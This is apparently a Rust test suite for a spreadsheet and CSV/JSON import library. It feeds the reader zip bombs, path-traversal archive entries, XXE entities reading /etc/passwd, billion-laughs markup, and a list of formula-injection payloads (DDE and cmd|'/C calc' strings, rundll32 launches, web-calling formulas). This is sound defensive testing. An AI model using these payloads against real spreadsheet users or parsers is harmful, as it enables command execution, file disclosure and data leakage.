//! Files made to do harm, or broken on the way: each gives problems, soon, in little memory, and never a panic.

use crate::reading::ods;
use crate::sample::{KIND, row, rows};
use exchange::{About, CODES, Format, Limits, Reading, check_workbook, read, write};
use record::Problem;
use std::io::{Cursor, Read, Write};
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

/// Reads within the time; one second in a release build, and what an unoptimised build on a busy machine needs beyond it.
fn hold(name: &str, bytes: &[u8]) -> Result<Reading, Vec<Problem>> {
    let begun = Instant::now();
    let found = read(name, bytes, &Limits::default());
    let taken = begun.elapsed();
    assert!(taken < Duration::from_secs(if cfg!(debug_assertions) { 10 } else { 1 }), "{name} took {taken:?}");
    for it in found.as_ref().err().into_iter().flatten().chain(found.as_ref().ok().into_iter().flat_map(|it| &it.problems)) {
        assert!(CODES.iter().any(|code| code.0 == it.code), "{name}: {} is not listed", it.code);
        assert_eq!(it.place.file.as_deref(), Some(name));
    }
    check_workbook(bytes);
    found
}

fn refused(name: &str, bytes: &[u8]) -> String {
    match hold(name, bytes) {
        Err(problems) => problems[0].code.to_string(),
        Ok(it) => panic!("{name} was read: {:?}", it.sheets.first().map(|it| it.headings.len())),
    }
}

fn zipped(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        zip.start_file(*name, SimpleFileOptions::default().compression_method(CompressionMethod::Deflated)).expect("started");
        zip.write_all(bytes).expect("written");
    }
    zip.finish().expect("finished").into_inner()
}

fn written(format: Format) -> Vec<u8> {
    write(KIND, rows(), format, &About::default()).expect("written")
}

/// Our own workbook with one part in place of another, or beside it.
fn with_part(format: Format, part: &str, content: &[u8]) -> Vec<u8> {
    let bytes = written(format);
    let mut archive = ZipArchive::new(Cursor::new(&bytes[..])).expect("an archive");
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).expect("a part");
        let mut content = Vec::new();
        file.read_to_end(&mut content).expect("read");
        parts.push((file.name().expect("a name").into_owned(), content));
    }
    parts.retain(|it| it.0 != part);
    parts.push((part.to_owned(), content.to_vec()));
    zipped(&parts.iter().map(|it| (it.0.as_str(), it.1.as_slice())).collect::<Vec<_>>())
}

#[test]
fn files_that_are_no_tables_are_named_for_what_they_are() {
    for (name, bytes, code) in [
        ("nothing", &b""[..], "empty-file"),
        ("mark", b"\xEF\xBB\xBF", "empty-file"),
        ("wide mark", b"\xFF\xFE", "empty-file"),
        ("blank", b" \r\n\t\n", "empty-file"),
        ("delimiters", b",,,\n,,,\n", "no-table"),
        ("web page", b"<!DOCTYPE html><table><tr><td>1</td></tr></table>", "web-page-not-spreadsheet"),
        ("xml", b"\xEF\xBB\xBF<?xml version='1.0'?><Workbook/>", "web-page-not-spreadsheet"),
        ("old excel", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 and more", "old-excel-file"),
        ("locked", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0", "password-protected"),
        ("pdf", b"%PDF-1.7 text", "not-a-table"),
        ("binary", b"a,b\n\0\x01\x02", "not-a-table"),
        ("wide without mark", b"a\0,\0b\0\n\0", "not-a-table"),
        ("half a character", b"\xFF\xFEa\0\x00\xD8", "broken-text"),
        ("open quote", b"a,b\n1,\"2\n3,4\n", "quote-never-closed"),
        ("archive", b"PK\x03\x04 and nothing more", "file-damaged"),
        ("json number", b"[1, 2]", "not-records"),
        ("json object", b"{\"a\": 1}", "not-records"),
        ("json cut", b"[{\"a\": 1}, {\"a\"", "not-json"),
        ("json tail", b"[{\"a\": 1}] more", "not-json"),
        ("json western", b"[{\"a\": \"\xE9\"}]", "not-json"),
        ("json empty", b"[]", "no-table"),
    ] {
        assert_eq!(refused(name, bytes), code, "{name}");
    }
}

#[test]
fn archives_that_are_no_workbooks_are_named_for_what_they_are() {
    let types = |it: &str| format!("<Types><Override ContentType=\"application/vnd.{it}\"/></Types>");
    let sheet = types("openxmlformats-officedocument.spreadsheetml.sheet.main+xml");
    for (name, bytes, code) in [
        ("archive", zipped(&[("a.txt", b"a")]), "not-a-workbook"),
        ("document", zipped(&[("mimetype", b"application/vnd.oasis.opendocument.text")]), "not-a-workbook"),
        (
            "word",
            zipped(&[("[Content_Types].xml", types("openxmlformats-officedocument.wordprocessingml.document").as_bytes())]),
            "not-a-workbook",
        ),
        ("macro type", zipped(&[("[Content_Types].xml", types("ms-excel.sheet.macroEnabled.main+xml").as_bytes())]), "macro-workbook"),
        ("macro part", with_part(Format::Xlsx, "xl/vbaProject.bin", b"x"), "macro-workbook"),
        ("xlsb", zipped(&[("[Content_Types].xml", sheet.as_bytes()), ("xl/workbook.bin", b"x")]), "binary-workbook"),
        ("no sheets", zipped(&[("[Content_Types].xml", sheet.as_bytes())]), "file-damaged"),
        ("climbing", with_part(Format::Xlsx, "../../etc/passwd", b"x"), "strange-archive"),
        ("rooted", with_part(Format::Ods, "/etc/passwd", b"x"), "strange-archive"),
        ("windows", with_part(Format::Ods, "..\\..\\x", b"x"), "strange-archive"),
    ] {
        assert_eq!(refused(name, &bytes), code, "{name}");
    }
    let many: Vec<String> = (0..5_000).map(|it| format!("p{it}")).collect();
    let parts: Vec<(&str, &[u8])> = many.iter().map(|it| (it.as_str(), &b""[..])).collect();
    assert_eq!(refused("five thousand parts", &zipped(&parts)), "strange-archive");
}

#[test]
fn bombs_do_not_go_off() {
    let zeros = vec![b' '; 40 << 20];
    let bomb = with_part(Format::Xlsx, "xl/worksheets/sheet4.xml", &zeros);
    assert!(zeros.len() / bomb.len() > 500, "packed a thousand to one");
    assert_eq!(refused("bomb", &bomb), "archive-too-large");
    // The same, with sizes in the folder and in the local header that tell lies: only counting finds it.
    let mut liar = bomb.clone();
    let size = (zeros.len() as u32).to_le_bytes();
    let places: Vec<usize> = liar.windows(4).enumerate().filter(|(_, it)| *it == size).map(|it| it.0).collect();
    assert!(!places.is_empty());
    for at in places {
        liar[at..at + 4].copy_from_slice(&1_000u32.to_le_bytes());
    }
    assert!(["archive-too-large", "file-damaged"].contains(&refused("lying bomb", &liar).as_str()));
    // One long text, shown a million times.
    let rows: String = (1..=200_000)
        .map(|it| format!("<row r=\"{it}\"><c r=\"A{it}\" t=\"s\"><v>0</v></c><c r=\"B{it}\" t=\"s\"><v>0</v></c></row>"))
        .collect();
    let sheet = format!("<worksheet><sheetData>{rows}</sheetData></worksheet>");
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().write_row(0, 0, ["x".repeat(30_000), "y".into()]).expect("written");
    let bytes = book.save_to_buffer().expect("saved");
    let mut archive = ZipArchive::new(Cursor::new(&bytes[..])).expect("an archive");
    let mut parts = Vec::new();
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).expect("a part");
        let (name, mut content) = (file.name().expect("a name").into_owned(), Vec::new());
        file.read_to_end(&mut content).expect("read");
        parts.push((name.clone(), if name.ends_with("sheet1.xml") { sheet.clone().into_bytes() } else { content }));
    }
    let shared = zipped(&parts.iter().map(|it| (it.0.as_str(), it.1.as_slice())).collect::<Vec<_>>());
    assert_eq!(refused("one text a million times", &shared), "too-much-text");
    let row = |repeat: &str, columns: &str| {
        ods(&format!(
            "<a><table:table><table:table-row {repeat}><table:table-cell {columns}><text:p>x</text:p></table:table-cell></table:table-row></table:table></a>"
        ))
    };
    let (many_rows, many_columns) = ("table:number-rows-repeated=\"4000000000\"", "table:number-columns-repeated=\"18446744073709551615\"");
    assert_eq!(refused("repeated rows", &row(many_rows, "")), "too-many-rows");
    assert_eq!(refused("repeated columns", &row("", many_columns)), "too-many-columns");
    assert_eq!(refused("both", &row("table:number-rows-repeated=\"1000000\"", "table:number-columns-repeated=\"1000\"")), "too-many-cells");
    memory();
}

/// The most memory this process ever held. Only Linux tells; elsewhere the limits themselves are tested above.
fn memory() {
    let Ok(status) = std::fs::read_to_string("/proc/self/status") else { return };
    let peak = status.lines().find_map(|it| it.strip_prefix("VmHWM:")?.trim().strip_suffix(" kB")?.trim().parse::<u64>().ok());
    let peak = peak.expect("the peak is told");
    assert!(peak < 1_000_000, "{peak} kB, with the bombs themselves and every test beside this one");
}

#[test]
fn a_million_columns_are_refused() {
    let wide = "a,".repeat(1_000_000);
    assert_eq!(refused("csv", wide.as_bytes()), "too-many-columns");
    assert_eq!(refused("tabs", wide.replace(',', "\t").as_bytes()), "too-many-columns");
    let keys: Vec<String> = (0..1_000_000).map(|it| format!("\"{it}\":1")).collect();
    assert_eq!(refused("json", format!("[{{{}}}]", keys.join(",")).as_bytes()), "too-many-columns");
    let sheet = "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"XFD1\"><v>1</v></c></row></sheetData></worksheet>";
    assert_eq!(refused("xlsx", &with_part(Format::Xlsx, "xl/worksheets/sheet4.xml", sheet.as_bytes())), "too-many-columns");
    let corner = "<worksheet><sheetData><row r=\"1048576\"><c r=\"A1048576\"><v>1</v></c></row></sheetData></worksheet>";
    assert_eq!(refused("far corner", &with_part(Format::Xlsx, "xl/worksheets/sheet4.xml", corner.as_bytes())), "too-many-rows");
    assert_eq!(refused("rows", "a\n".repeat(1_000_001).as_bytes()), "too-many-rows");
}

#[test]
fn markup_that_no_program_writes_is_refused() {
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let outside = r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&e;</v></c></row></sheetData></worksheet>"#;
    let laughs = r#"<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>"#;
    let many = format!("<worksheet {}/>", (0..100_000).map(|it| format!("a{it}=\"\" ")).collect::<String>());
    for (name, xml) in [("deep", deep.as_str()), ("outside", outside), ("laughs", laughs), ("attributes", &many)] {
        assert_eq!(refused(name, &with_part(Format::Xlsx, "xl/worksheets/sheet4.xml", xml.as_bytes())), "markup-not-allowed", "{name}");
        assert_eq!(refused(name, &ods(xml)), "markup-not-allowed", "{name}");
    }
    let wide: Vec<u8> = outside.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(
        refused("wide", &with_part(Format::Xlsx, "xl/worksheets/sheet4.xml", &[b"\xFF\xFE", &wide[..]].concat())),
        "markup-not-allowed"
    );
    let unknown = "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><v>&unknown;</v></c></row></sheetData></worksheet>";
    let _ = hold("unknown entity", &with_part(Format::Xlsx, "xl/worksheets/sheet4.xml", unknown.as_bytes()));
    assert_eq!(refused("nested json", format!("[{{\"a\":{}", "[".repeat(1_000_000)).as_bytes()), "not-json");
    let _ = hold("closed nested json", format!("[{{\"a\":{}1{}}}]", "[".repeat(100_000), "]".repeat(100_000)).as_bytes());
}

#[test]
fn a_file_cut_short_anywhere_gives_problems_or_fewer_rows() {
    for format in Format::ALL {
        let bytes = written(format);
        for tenth in 0..10 {
            let cut = &bytes[..bytes.len() * tenth / 10];
            let found = hold("cut", cut);
            assert!(found.is_err() || format == Format::Csv, "{format:?} cut at {tenth}/10");
        }
    }
}

/// A small generator of bytes, the same at every run (Marsaglia's xorshift).
struct Bytes(u64);

impl Iterator for Bytes {
    type Item = u8;
    fn next(&mut self) -> Option<u8> {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        Some((self.0 >> 24) as u8)
    }
}

#[test]
fn random_bytes_and_spoiled_files_never_panic() {
    for seed in 1..=60u64 {
        let mut bytes = Bytes(seed * 0x9E37_79B9);
        let noise: Vec<u8> = bytes.by_ref().take(2_000).collect();
        let text: Vec<u8> = noise.iter().map(|it| b"\",\n\r;\t'=ab1\xC3\xA9\xE9"[usize::from(*it) % 14]).collect();
        for noise in [noise.clone(), [b"PK\x03\x04", &noise[..]].concat(), text, [b"{", &noise[..]].concat()] {
            let _ = hold("noise", &noise);
        }
        for format in Format::ALL {
            let mut file = written(format);
            for _ in 0..8 {
                let at = bytes.by_ref().take(4).fold(0usize, |sum, it| sum << 8 | usize::from(it)) % file.len();
                file[at] = bytes.next().unwrap_or(0);
            }
            let _ = hold("spoiled", &file);
        }
        // Spoiled markup, packed soundly.
        for (format, part) in [
            (Format::Xlsx, "xl/worksheets/sheet4.xml"),
            (Format::Xlsx, "xl/sharedStrings.xml"),
            (Format::Xlsx, "xl/workbook.xml"),
            (Format::Xlsx, "xl/styles.xml"),
            (Format::Ods, "content.xml"),
        ] {
            let whole = written(format);
            let mut archive = ZipArchive::new(Cursor::new(&whole[..])).expect("an archive");
            let mut xml = Vec::new();
            archive.by_name(part).expect("a part").read_to_end(&mut xml).expect("read");
            for _ in 0..6 {
                let at = bytes.by_ref().take(4).fold(0usize, |sum, it| sum << 8 | usize::from(it)) % xml.len();
                xml[at] = b"<>/\"= 09Az&;\xC3\n"[usize::from(bytes.next().unwrap_or(0)) % 14];
            }
            let _ = hold("spoiled markup", &with_part(format, part, &xml));
        }
    }
}

const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"1\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?x=\"&A1;\"click\")",
    "=IMPORTXML(\"http://example.org\";\"//a\")",
    "=WEBSERVICE(\"http://example.org\")",
    "=IMPORTDATA(\"http://example.org\")",
    "=IMPORTRANGE(\"a\";\"b\")",
    "=IMAGE(\"http://example.org/x.png\")",
    "=EXEC(\"calc\")",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|' /C calc'!A0",
    "=A1:A9",
    "=INDIRECT(\"A1\")",
    "=msexcel|'\\..\\..\\cmd.exe /c calc'!''",
    "\"=1+1",
    "=\"\"&A1",
    "=1+1\";=2",
    "=1;=2",
    "'=1+1",
    "''=1+1",
    "=+-@1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "of:=1+1",
    "{=1+1}",
    "=@A1",
    "-2+3+cmd|'x'!A1",
    "=1\n=2",
];

#[test]
fn no_text_becomes_a_formula_in_any_format() {
    assert!(FORMULAS.len() >= 30);
    let rows: Vec<_> = (1..).zip(FORMULAS).map(|(at, it)| row(at, &[("name", "x"), ("about", it)])).collect();
    for format in Format::ALL {
        let bytes = write(KIND, &rows, format, &About::default()).expect("written");
        let found = hold("formulas", &bytes).expect("read");
        let column = found.sheets[0].headings.iter().position(|it| it.starts_with("about") || it.starts_with("About")).expect("the column");
        for (line, text) in found.sheets[0].lines.iter().zip(FORMULAS) {
            assert_eq!(line.cells[column], *text, "{format:?}");
        }
        if matches!(format, Format::Xlsx | Format::Ods) {
            assert!(check_workbook(&bytes).is_empty(), "the checker finds no formula");
        }
    }
    let bytes = write(KIND, &rows, Format::Csv, &About::default()).expect("written");
    for record in csv::Reader::from_reader(&bytes[3..]).records() {
        for cell in &record.expect("a record") {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r', '＝', '＋', '－', '＠'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell}"
            );
        }
    }
}

#[test]
fn headings_given_twice_and_files_of_headings_only_are_read_and_told() {
    let found = hold("twice", b"Name,Name\na,b\n").expect("read");
    let problems = record::from_sheet(KIND, &found.sheets[0]).problems;
    assert!(problems.iter().any(|it| it.code == "column-given-twice"));
    let found = hold("headings", b"Name,Count\n").expect("read");
    assert_eq!(found.notices[0].code, "only-headings");
}
